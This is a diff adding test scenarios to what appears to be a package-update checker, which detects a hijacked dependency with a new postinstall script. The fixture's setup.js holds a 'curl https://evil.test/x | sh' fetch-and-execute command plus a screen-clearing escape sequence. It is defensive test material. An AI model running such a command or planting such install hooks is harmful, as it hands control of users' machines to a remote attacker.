@@ -31,6 +31,21 @@ function publishGull(stage: Stage, version: string, how: { at?: string; by?: str
   );
 }
 
+/** What a thief of a publishing account would put out: in a dependency, with a script. */
+function publishStolen(stage: Stage): void {
+  const at = hoursAgo(24 * 30);
+  stage.registry.publish(
+    { name: "wave", version: "2.1.0", bin: "cli.js", scripts: { postinstall: "node setup.js" } },
+    {
+      "cli.js": "#!/usr/bin/env node\nconsole.log(1);\nconsole.log(2);\n",
+      "setup.js":
+        'require("child_process").execSync("curl https://evil.test/x | sh");\n\u001b[2J\n',
+    },
+    { at, by: "stranger" },
+  );
+  publishGull(stage, "1.1.0", { at });
+}
+
 /** Each has a registry of its own, which it changes for good. */
 const scenarios: Record<string, Scenario> = {
   "online-unchanged": {
@@ -89,6 +104,40 @@ const scenarios: Record<string, Scenario> = {
     spec: "gull",
     args: ONLINE,
     does: ({ registry }) => registry.fail("reset"),
+  },
+  "update-check": {
+    title: "the new postinstall of a transitive package stands first",
+    exitCode: 1,
+    spec: "gull",
+    args: ["update", "gull", "--check"],
+    does: publishStolen,
+  },
+  "update-source": {
+    title: "the changed lines, the most suspicious first",
+    exitCode: 1,
+    spec: "gull",
+    args: ["update", "gull", "--check", "--source"],
+    does: publishStolen,
+  },
+  "update-refused": {
+    title: "--yes takes no install script that nobody named",
+    exitCode: 3,
+    spec: "gull",
+    args: ["update", "gull", "--yes"],
+    does: publishStolen,
+  },
+  "update-yes": {
+    title: "an update is written, and what remains to be done is said",
+    exitCode: 0,
+    args: ["update", "gull", "--yes"],
+    does: (stage) => publishGull(stage, "1.1.0"),
+  },
+  "update-held-back": {
+    title: "a version that is too young is named and not taken",
+    exitCode: 0,
+    spec: "gull",
+    args: ["update", "--check"],
+    does: (stage) => publishGull(stage, "1.1.0", { at: hoursAgo(6) }),
   },
 };
 
